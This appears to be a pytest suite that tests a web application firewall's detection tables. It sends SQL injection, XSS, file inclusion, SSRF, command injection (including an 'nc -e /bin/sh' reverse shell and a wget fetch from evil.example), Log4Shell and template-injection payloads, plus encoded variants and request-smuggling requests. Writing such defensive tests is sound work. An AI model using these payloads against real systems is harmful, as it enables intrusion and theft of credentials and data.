"""WAF, part 2: attack detection tables through the real edge (shipped
config, bans off). Each detector class has payloads written for these
tests; each is sent in every placement (query, form body, JSON body,
cookie, header, path) and query payloads also in encoded variants (URL,
double URL, case, whitespace tricks). A benign table must pass."""
import json
import re
import socket
import urllib.parse

import pytest
import requests

from limitlib import access_log
from wafkit import WafEdge, no_lua_errors, waf_config

CONF = waf_config()

ATTACKS = {
    "sqli": [
        "1 OR 1=1",
        "x' OR 'a'='a",
        "1; DROP TABLE users--",
        "' UNION SELECT username, password FROM users--",
        "admin'--",
        "1 AND SLEEP(5)",
        "(SELECT load_file('/etc/hosts'))",
        "1' ORDER BY 3--",
        "'; EXEC master..xp_cmdshell 'dir'--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.domain)",
        "\"><svg/onload=confirm(1)>",
        "<iframe src=//evil.example>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "x\" onmouseover=\"alert(1)",
        "<body onload=alert(1)>",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "....//....//etc/passwd",
        "/proc/self/environ",
    ],
    "rfi-ssrf": [
        "http://203.0.113.7/shell.txt?",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8500/v1/agent/self",
        "gopher://127.0.0.1:6379/_FLUSHALL",
    ],
    "rce": [
        "; cat /etc/passwd",
        "| nc -e /bin/sh 203.0.113.7 4444",
        "$(whoami)",
        "x`id`",
        "&& wget http://evil.example/x.sh -O /tmp/x",
        "cmd.exe /c dir",
        "() { :; }; /bin/bash -c id",
        "powershell -enc SQBFAFgA",
        # command names found by prefix or pattern, and shell quote removal
        # (rce.command_at looks the name up before reading arguments)
        "; python3.11 -c 'import os'",
        "; ansible-lint site.yml",
        "| chef-apply recipe.rb",
        "; ansi\\ble-lint site.yml",
        "; w'h'o'a'm'i",
        "; /usr/local/bin/nmap 203.0.113.0/24",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "eval(base64_decode('ZWNobyAx'))",
        "php://filter/convert.base64-encode/resource=index.php",
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
        "$_SERVER['HTTP_HOST']",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "java.lang.Runtime",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "new java.lang.ProcessBuilder('id').start()",
    ],
    "node-ssti": [
        "require('child_process').exec('id')",
        "{{7*7}}",
        "{{''.__class__.__mro__}}",
        "process.mainModule.require('fs')",
        "_$$ND_FUNC$$_function(){}",
    ],
    "protocol": [
        "x\r\nSet-Cookie: admin=1",
        "x\r\n\r\nHTTP/1.1 200 OK",
        "*)(uid=*))(|(uid=*",
        "GET http://evil.example/ HTTP/1.1",
    ],
}

CASES = [(cls, p) for cls, payloads in ATTACKS.items() for p in payloads]
IDS = [f"{cls}-{i}" for cls, payloads in ATTACKS.items()
       for i in range(len(payloads))]

BENIGN = [
    "O'Brien",
    "Miles O'Brien-D'Angelo",
    "rock'n'roll",
    "it's a 'test', isn't it?",
    "Select a drink from the menu",
    "Please update the table and delete old rows from the list.",
    "Die Union von Europa",
    "I sleep well; or do I?",
    "The 1=1 comparison is always true",
    "e.g. 'select' or 'union'",
    "It's 5 o'clock; SELECT * FROM drinks -- cheers",
    "drop me a line at bob@example.com",
    "https://example.com/search?q=waf&page=2",
    "See https://en.wikipedia.org/wiki/SQL_injection for details",
    "# Title\n\n- item one\n- item **two**\n\nUse `git status` and `npm test`.",
    "[docs](https://example.com/docs) and ![logo](/img/logo.png)",
    "for (let i = 0; i < n; i++) { sum += i; }",
    "def add(a, b):\n    return a + b",
    'printf("%d\\n", x);',
    "if (a < b && c > d) { swap(a, c); }",
    "+1 (555) 123-4567",
    "C++ & C# are languages",
    "50% off! Use code SAVE50",
    "a < b > c",
    "Tom & Jerry",
    '{"a": 1, "b": [1, 2]}',
    "Vec<String> and List<Integer>",
    "<b>bold</b> and <i>it</i>",
    "where are you from?",
    "Meet me at 5; bring snacks & drinks",
    "Price: $5 (approx.)",
    "x = y + 2; z = x * 3",
    "PS: do not forget the milk",
    "Sed ut perspiciatis unde omnis iste natus error",
    "cat food and dog treats",
    "He said \"hi\" -- then left",
    "Café déjà vu, naïve façade 東京 🎉",
    "2024-05-01T12:30:00Z",
    "alice.smith+tag@example.co.uk",
    "The command line is fun: try the help menu.",
]


def placements(edge, payload):
    """(name, callable) for every place a payload can go."""
    q = urllib.parse.quote(payload, safe="")
    cookie = urllib.parse.quote(payload, safe="")
    header = payload.replace("\r", " ").replace("\n", " ").encode()
    return [
        ("query", lambda: requests.get(edge.url + "/probe?v=" + q)),
        ("form", lambda: requests.post(edge.url + "/probe", data={"v": payload})),
        ("json", lambda: requests.post(edge.url + "/probe",
                                       json={"outer": {"v": [payload]}})),
        ("json-key", lambda: requests.post(edge.url + "/probe",
                                           json={payload: 1})),
        ("cookie", lambda: requests.get(edge.url + "/probe",
                                        headers={"Cookie": "v=" + cookie})),
        ("header", lambda: requests.get(edge.url + "/probe",
                                        headers={"User-Agent": header})),
        ("path", lambda: requests.get(edge.url + "/probe/" + q)),
    ]


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-detect"), CONF).start()
    yield e
    e.stop()


# Payload classes that cannot sensibly stand in some places.
SKIP = {
    ("protocol", "header"),      # CR/LF is stripped from header values
    ("lfi", "path"),             # nginx itself refuses ../ above the root
}


@pytest.mark.parametrize("cls,payload", CASES, ids=IDS)
def test_attack_blocked_everywhere(edge, cls, payload):
    missed = []
    for where, send in placements(edge, payload):
        if (cls, where) in SKIP or (cls == "protocol" and where == "path"):
            continue
        r = send()
        if r.status_code not in (400, 403):
            missed.append((where, r.status_code))
    assert not missed, f"{payload!r} passed in {missed}"


def double(s):
    return urllib.parse.quote(urllib.parse.quote(s, safe=""), safe="")


def case_toggle(s):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s))


ENCODED = [
    ("url", "' UNION SELECT password FROM users--", lambda s: urllib.parse.quote(s, safe="")),
    ("double-url", "' UNION SELECT password FROM users--", double),
    ("double-url", "<script>alert(1)</script>", double),
    ("double-url", "../../etc/passwd", double),
    ("case", "' uNiOn SeLeCt password FROM users--", lambda s: urllib.parse.quote(s)),
    ("case", "<ScRiPt>alert(1)</sCrIpT>", lambda s: urllib.parse.quote(case_toggle(s))),
    ("comments", "'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", urllib.parse.quote),
    ("tabs", "'\tUNION\tSELECT\tpassword\tFROM\tusers--", urllib.parse.quote),
    ("newlines", "1\nOR\n1=1", urllib.parse.quote),
    ("mysql-version", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", urllib.parse.quote),
    ("html-entities", "&lt;script&gt;alert(1)&lt;/script&gt;", urllib.parse.quote),
    ("entity-scheme", "jav&#x0A;ascript:alert(1)", urllib.parse.quote),
    ("unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", urllib.parse.quote),
    ("fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", urllib.parse.quote),
    ("iis-u", "%u003cscript%u003ealert(1)", lambda s: s),
    ("overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", lambda s: s),
    ("nul", "file.txt%00.php", lambda s: s),
    ("base64", "JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=", lambda s: s),
    ("shell-quotes", "w'h'o'a'm'i; c''at /e""tc/pa''sswd", urllib.parse.quote),
    ("glob", "/???/c?t /e[t]c/pa[s]swd", urllib.parse.quote),
]


@pytest.mark.parametrize("kind,payload,encode", ENCODED,
                         ids=[f"{e[0]}-{i}" for i, e in enumerate(ENCODED)])
def test_encoded_variants_blocked(edge, kind, payload, encode):
    r = requests.get(edge.url + "/probe?v=" + encode(payload))
    assert r.status_code in (400, 403), (kind, payload, r.status_code)


@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_benign_passes_everywhere(edge, text):
    blocked = []
    for where, send in placements(edge, text):
        if where == "path" and ("\n" in text or "/" in text):
            continue
        r = send()
        if r.status_code != 404:
            blocked.append((where, r.status_code))
    assert not blocked, f"{text!r} refused in {blocked}"


@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_benign_checkin_note_and_search(edge, text):
    """The real routes: a note in a JSON body and a search query."""
    r = requests.post(edge.url + "/api/checkins/alice", json={"note": text})
    assert r.status_code == 200, r.text
    if len(text) <= 200:
        r = requests.get(edge.url + "/api/checkins/alice", params={"q": text})
        assert r.status_code == 200, r.text


def test_browser_like_request_passes(edge):
    r = requests.get(edge.url + "/api/fibonacci", params={"count": 10}, headers={
        "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                      "AppleWebKit/537.36 (KHTML, like Gecko) "
                      "Chrome/120.0.0.0 Safari/537.36",
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,"
                  "*/*;q=0.8",
        "Accept-Language": "en-US,en;q=0.5",
        "Referer": "https://example.com/page?x=1&y=2",
        "Cookie": "theme=dark; session=abc123; consent=yes%2Cno",
    })
    assert r.status_code == 200


# -- protocol signs ----------------------------------------------------------------

@pytest.mark.parametrize("raw", [
    # both Content-Length and Transfer-Encoding
    b"POST /probe HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    # a body on GET
    b"GET /probe HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n"
    b"Content-Length: 5\r\n\r\nhello",
    # obsolete Request-Range
    b"GET /probe HTTP/1.1\r\nHost: x\r\nRequest-Range: bytes=0-1\r\n\r\n",
    # many ranges
    b"GET /probe HTTP/1.1\r\nHost: x\r\nRange: bytes=0-1,2-3,4-5,6-7,8-9,10-11\r\n\r\n",
    # contradictory Connection options
    b"GET /probe HTTP/1.1\r\nHost: x\r\nConnection: keep-alive, close\r\n\r\n",
    # absolute-form request target (proxy request)
    b"GET http://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
])
def test_protocol_signs(edge, raw):
    assert edge.raw(raw) in (400, 403, 405)


def test_session_id_in_argument_from_another_site(edge):
    r = requests.get(edge.url + "/probe", params={"PHPSESSID": "abc123"},
                     headers={"Referer": "https://attacker.example/"})
    assert r.status_code == 403
    r = requests.get(edge.url + "/probe", params={"PHPSESSID": "abc123"},
                     headers={"Referer": f"http://127.0.0.1:{edge.port}/x",
                              "Host": f"127.0.0.1:{edge.port}"})
    assert r.status_code == 404


# -- answers and logs ---------------------------------------------------------------

def test_block_answer_has_no_rule_details(edge):
    r = requests.get(edge.url + "/probe", params={"v": "1 OR 1=1"},
                     headers={"X-Request-ID": "waf-answer-1"})
    assert r.status_code == 403
    body = r.json()
    assert body["type"] == "urn:edge:problem:request-blocked"
    assert body["request_id"] == "waf-answer-1"
    assert "sqli" not in r.text and "1=1" not in r.text


def test_audit_line_names_rules_scores_and_places(edge):
    r = requests.post(edge.url + "/probe?v=hello", json={"comment": "1 OR 1=1"},
                      headers={"X-Request-ID": "waf-audit-1"})
    assert r.status_code == 403
    audit = edge.audit_for("waf-audit-1")
    assert audit["action"] == "block" and audit["route"] == "unknown"
    assert audit["score"] >= audit["threshold"]
    match = audit["matches"][0]
    assert match["rule"].startswith("sqli-")
    assert match["where"] == "body" and match["name"] == "comment"


def test_hostile_payload_cannot_break_the_log_lines(edge):
    evil_name = 'x"}\n[crit] fake line {"'
    r = requests.get(edge.url + "/probe", params={evil_name: "<script>alert(1)</script>"},
                     headers={"X-Request-ID": "waf-audit-2"})
    assert r.status_code == 403
    audit = edge.audit_for("waf-audit-2")
    assert audit["matches"][0]["name"] == evil_name
    # one line per audit, whatever the payload held
    lines = [line for line in edge.error_log.read_text().splitlines()
             if "fake line" in line]
    assert len(lines) == 1 and "waf audit: {" in lines[0]
    assert not [line for line in edge.error_lines("crit") if "fake line" in line]
    # the access log line stays one JSON object with the WAF's summary
    log = edge.edge.access_log

    def entry():
        for line in log.read_text().splitlines():
            e = json.loads(line)
            if e.get("request_id") == "waf-audit-2":
                return e
        return None
    from stack import wait_until
    e = wait_until(entry, 5, what="access log line")
    assert e["edge"]["waf"]["action"] == "block"
    assert all(re.match(r"^[a-z]+-[a-z0-9-]+$|^[a-z]+$", rid)
               for rid in e["edge"]["waf"]["rules"])


def test_access_log_writes_the_wafs_summary_as_json_types(edge):
    """The access log's edge object is written member by member (numbers
    and the WAF's summary without cjson): a hit below the threshold is
    logged with its score a JSON number and its rules a list."""
    # no User-Agent: one protocol hit, scored under the threshold
    raw = (b"GET /probe?q=coffee HTTP/1.1\r\nHost: x\r\n"
           b"X-Request-ID: waf-log-types\r\nConnection: close\r\n\r\n")
    with socket.create_connection(("127.0.0.1", edge.edge.port)) as s:
        s.sendall(raw)
        assert s.recv(65536).split(b" ")[1] != b"403"
    waf = access_log(edge.edge, "waf-log-types")["edge"]["waf"]
    assert waf["action"] == "pass"
    assert isinstance(waf["score"], int) and 0 < waf["score"] < 5
    assert waf["rules"] == ["protocol-user-agent"]
